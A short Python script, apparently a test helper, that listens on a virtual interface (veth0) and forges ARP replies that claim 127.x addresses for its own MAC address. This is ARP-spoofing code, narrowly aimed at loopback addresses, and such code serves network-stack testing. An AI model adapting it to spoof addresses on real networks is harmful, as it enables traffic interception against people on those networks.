# An accomplice on the wire: answers ARP requests for 127.0.0.1 with its own address.
import socket
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
s.bind(("veth0", 0x0806))
own = s.getsockname()[4]
print("ready", flush=True)
while True:
    frame = s.recv(2048)
    kind, sender, asker, wanted = frame[20:22], frame[22:28], frame[28:32], frame[38:42]
    if kind == b"\0\1" and wanted[:1] == b"\x7f":
        s.send(sender + own + b"\x08\x06" + b"\0\1\x08\0\6\4\0\2" + own + wanted + sender + asker)
